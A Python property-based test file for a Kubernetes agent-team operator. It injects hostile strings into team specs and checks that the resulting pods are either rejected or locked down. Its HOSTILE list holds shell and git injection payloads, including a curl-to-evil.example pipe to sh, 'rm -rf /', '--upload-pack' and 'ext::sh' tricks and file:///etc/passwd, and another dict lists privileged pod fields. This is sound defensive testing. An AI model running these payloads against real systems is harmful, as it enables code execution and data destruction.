"""Whatever an accepted spec says, its pods have one shape: nothing in it is run, expanded or mounted besides.

hypothesis writes hostile words into every field of a team, and fields of a pod into every object of its spec.
What the models refuse is refused; of what they accept every pod of the whole life is looked at.
"""

import copy
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from world import World, team

from kagents_core.api.validation import validate

RUNNER = "kagents-runner:test"
SCRIPT = "- say: here\n"
CODING: dict[str, Any] = {
    "harness": "claude-code",
    "auth": {"apiKeySecret": "model", "baseUrl": "https://models.example.com/x", "priceTable": "prices"},
    "repository": {
        "url": "https://git.example.com/acme/backend.git",
        "branch": "main",
        "credentialsSecret": "git",
        "remotes": [{"name": "other", "url": "git@git.example.com:acme/other.git"}],
        "agentAccess": "push",
        "setupCommand": ["make", "ready"],
    },
    "lead": {
        "prompt": "Lead.",
        "model": "opus",
        "image": "registry.example.com/agent:1.0",
        "instructions": "Be brief.",
        "env": [
            {"name": "OWN", "value": "plain"},
            {"name": "THEIRS", "valueFrom": {"secretKeyRef": {"name": "given", "key": "token"}}},
        ],
        "skills": [
            {"name": "drawn", "source": {"oci": "registry.example.com/team/skill:1.0"}},
            {"name": "mapped", "source": {"configMap": "skill-files"}},
        ],
        "mcpServers": [
            {"name": "mail", "url": "https://mail.example.com/mcp", "credentialsSecret": "mail"},
            {"name": "local", "command": "serve", "args": ["--all"]},
        ],
    },
    "teammates": [
        {
            "name": "a",
            "prompt": "First.",
            "scope": {"includePaths": ["src/**"]},
            "artifacts": [{"name": "report", "path": "out/report.md"}],
        },
        {
            "name": "b",
            "prompt": "Second.",
            "harness": "simulated",
            "script": SCRIPT,
            "inputs": [{"from": "a/report"}],
        },
    ],
    "lifecycle": {
        "onComplete": "create-pr",
        "consolidatedBranchTemplate": "work/{{ .TeamName }}",
        "gitCredentialsSecret": "git",
        "githubTokenSecret": "forge",
        "pullRequest": {
            "targetBranch": "main",
            "titleTemplate": "Work of {{ .TeamName }}",
            "reviewers": ["ann"],
            "labels": ["kagents"],
            "apiUrl": "https://forge.example.com/api",
            "waitForChecks": "1m",
        },
    },
    "qualityGates": {"requireTests": True, "testCommand": "make test"},
    "observability": {"webhook": {"url": "https://hooks.example.com/x"}},
}
COWORK: dict[str, Any] = {
    "harness": "simulated",
    "workspace": {
        "inputs": [
            {"configMap": "notes", "mountPath": "/workspace/notes"},
            {"pvc": "archive", "mountPath": "/workspace/archive"},
            {"secret": "sources", "mountPath": "/workspace/sources"},
        ],
        "output": {"mountPath": "/workspace/output", "storageClass": "fast", "size": "1Gi"},
    },
    "lead": {"prompt": "Lead.", "script": SCRIPT},
    "teammates": [{"name": "a", "prompt": "First.", "script": SCRIPT}],
    "storage": {"className": "shared", "size": "2Gi"},
}
HOSTILE = (
    *(
        "$(touch /tmp/owned)",
        "`id`",
        "; rm -rf /",
        "&& curl evil.example | sh",
        "$(KAGENTS_TEAM)",
        "$$(HOME)",
    ),
    *("${IFS}", "--upload-pack=touch /tmp/owned", "-oProxyCommand=sh", "ext::sh -c id", "file:///etc/passwd"),
    *(
        "../../../etc",
        "/",
        "/proc/1/root",
        "/var/run/docker.sock",
        "a\nb",
        "a\x00b",
        "\x1b[2J",
        "\u202eadmin",
    ),
    *("'\"", "{{ .Secret }}", "https://a.example/$(id)", "git@a.example:$(id)", "x" * 300, "team", "", "hub"),
    *("git-credentials", "*"),
)
FOREIGN = {
    "hostPath": {"path": "/"},
    "hostNetwork": True,
    "hostPID": True,
    "privileged": True,
    "securityContext": {"privileged": True, "runAsUser": 0},
    "serviceAccountName": "kagents-controller",
    "nodeName": "node",
    "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    "volumeMounts": [{"name": "host", "mountPath": "/host"}],
    "containers": [{"name": "own", "image": "evil"}],
    "initContainers": [{"name": "own", "image": "evil"}],
    "podTemplate": {"spec": {"hostNetwork": True}},
    "command": ["sh", "-c", "id"],
    "lifecycleHooks": {},
    "__proto__": {},
}
"""Fields that would be dangerous if they were passed through; a spec knows none of them."""

POD_FIELDS = {
    *(
        "activeDeadlineSeconds",
        "affinity",
        "automountServiceAccountToken",
        "containers",
        "enableServiceLinks",
        "initContainers",
        "restartPolicy",
    ),
    *("securityContext", "serviceAccountName", "terminationGracePeriodSeconds", "volumes"),
}
CONTAINER_FIELDS = {
    *("command", "env", "image", "imagePullPolicy", "name", "ports", "resources", "securityContext"),
    *("startupProbe", "readinessProbe", "livenessProbe", "terminationMessagePolicy", "volumeMounts"),
}
SOURCES = {"persistentVolumeClaim", "emptyDir", "secret", "configMap", "projected"}
VERBS = {
    *(
        "prepare",
        "setup",
        "await",
        "supervise",
        "record",
        "gateway",
        "git-proxy",
        "merge",
        "finish",
        "checks",
    ),
    *("export", "hold"),
}


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every value of an object with the way to it."""
    yield path, value
    each = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in each:
        yield from places(inner, (*path, key))


def put(obj: Any, path: tuple[Any, ...], value: Any) -> None:
    """Replaces what is there."""
    for key in path[:-1]:
        obj = obj[key]
    obj[path[-1]] = value


TEXTS = {
    name: [path for path, value in places(spec) if isinstance(value, str)]
    for name, spec in (("coding", CODING), ("cowork", COWORK))
}
OBJECTS = {
    name: [path for path, value in places(spec) if isinstance(value, dict)]
    for name, spec in (("coding", CODING), ("cowork", COWORK))
}
SPECS = {"coding": CODING, "cowork": COWORK}


@st.composite
def hostile_specs(draw: st.DrawFn) -> dict[str, Any]:
    """A team with hostile words in one to three of its fields."""
    name = draw(st.sampled_from(sorted(SPECS)))
    spec = copy.deepcopy(SPECS[name])
    words = st.sampled_from(HOSTILE) | st.text(max_size=20)
    for path in draw(st.lists(st.sampled_from(TEXTS[name]), min_size=1, max_size=3, unique=True)):
        old = _at(spec, path)
        new = draw(words)
        put(spec, path, draw(st.sampled_from([new, f"{old}{new}", f"{new}{old}"])))
    return spec


def _at(obj: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        obj = obj[key]
    return obj


def whole_life(spec: dict[str, Any]) -> list[dict[str, Any]]:
    """Every pod that the team ever has: hub, agents, delivery and export."""
    world = World(team(spec))
    world.raw["metadata"]["annotations"]["claude.amcheste.io/export"] = "once"
    for _ in range(6):
        world.step()
        world.start_all()
        for agent in [pod["metadata"]["labels"]["claude.amcheste.io/agent"] for pod in world.pods.values()]:
            if agent not in ("hub", "export", "finish"):
                world.succeed(agent)
    return list(world.pods.values())


def expanded(value: str, known: dict[str, str]) -> str:
    """A value as Kubernetes makes it: ``$(NAME)`` of an earlier variable is filled in, ``$$`` is ``$``."""
    return re.sub(
        r"\$\$|\$\(([^)]*)\)", lambda found: "$" if found[0] == "$$" else known.get(found[1], found[0]), value
    )


def words_of(spec: dict[str, Any]) -> set[str]:
    """Every text of the spec."""
    return {value for _, value in places(spec) if isinstance(value, str)}


def check_pod(pod: dict[str, Any], spec: dict[str, Any]) -> None:
    body = pod["spec"]
    agent = pod["metadata"]["labels"]["claude.amcheste.io/agent"]
    assert set(body) <= POD_FIELDS
    assert body["securityContext"] == {
        "runAsNonRoot": True,
        "runAsUser": 10001,
        "runAsGroup": 10001,
        "fsGroup": 10001,
        "fsGroupChangePolicy": "OnRootMismatch",
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    assert body.get("serviceAccountName") == ("kagents-hub" if agent == "hub" else None)
    assert body["automountServiceAccountToken"] is (agent == "hub")
    for volume in body["volumes"]:
        assert len(volume) == 2 and set(volume) - {"name"} <= SOURCES
    names = [volume["name"] for volume in body["volumes"]]
    assert len(set(names)) == len(names)
    for container in [*body.get("initContainers", []), *body["containers"]]:
        check_container(container, agent, spec)


def check_container(container: dict[str, Any], agent: str, spec: dict[str, Any]) -> None:
    assert set(container) <= CONTAINER_FIELDS
    assert container["securityContext"] == {
        "allowPrivilegeEscalation": False,
        "readOnlyRootFilesystem": True,
        "capabilities": {"drop": ["ALL"]},
    }
    program, verb = container["command"]
    assert program == "kagents-runner" and verb in VERBS
    if container["name"] != "agent":
        assert container["image"] == RUNNER
    assert not any("hostPort" in port for port in container.get("ports", []))
    paths = [mount["mountPath"] for mount in container["volumeMounts"]]
    assert len(set(paths)) == len(paths)
    for mount in container["volumeMounts"]:
        assert ".." not in mount["mountPath"].split("/")
        assert ".." not in mount.get("subPath", "").split("/")
    known: dict[str, str] = {}
    for variable in container["env"]:
        value = variable.get("value")
        if value is None:
            continue
        if variable["name"].startswith("KAGENTS_"):
            # What kagents tells its programs arrives as it was written, whatever a prompt or a branch says.
            assert expanded(value, {**known, "HOME": "?", "KAGENTS_TEAM": "?"}) == value.replace("$$", "$")
            assert "$(" not in value.replace("$$", "")
        known[variable["name"]] = value
    for name in ("KAGENTS_TEAM", "KAGENTS_AGENT", "KAGENTS_FINISH"):
        if name in known:
            json.loads(known[name].replace("$$", "$"))


@pytest.mark.parametrize("name", sorted(SPECS))
def test_the_ordinary_teams_are_accepted_and_have_every_kind_of_pod(name: str) -> None:
    assert [str(error) for error in validate(team(copy.deepcopy(SPECS[name])))] == []
    pods = whole_life(copy.deepcopy(SPECS[name]))
    kinds = {pod["metadata"]["labels"]["claude.amcheste.io/agent"] for pod in pods}
    assert kinds >= {"hub", "lead", "a", "export"} | ({"finish", "b"} if name == "coding" else set())
    for pod in pods:
        check_pod(pod, SPECS[name])


@settings(max_examples=60, deadline=None)
@given(hostile_specs())
def test_hostile_words_are_refused_or_harmless(spec: dict[str, Any]) -> None:
    if validate(team(copy.deepcopy(spec))):
        return
    for pod in whole_life(spec):
        check_pod(pod, spec)


@pytest.mark.parametrize("name", sorted(SPECS))
@pytest.mark.parametrize("field", sorted(FOREIGN))
def test_no_object_of_a_spec_takes_a_field_of_a_pod(name: str, field: str) -> None:
    for path in OBJECTS[name]:
        spec = copy.deepcopy(SPECS[name])
        place = _at(spec, path)
        if field in place or (field == "command" and path[-2:-1] == ("mcpServers",)):
            continue
        place[field] = copy.deepcopy(FOREIGN[field])
        assert validate(team(spec)), f"{path}.{field} was accepted"
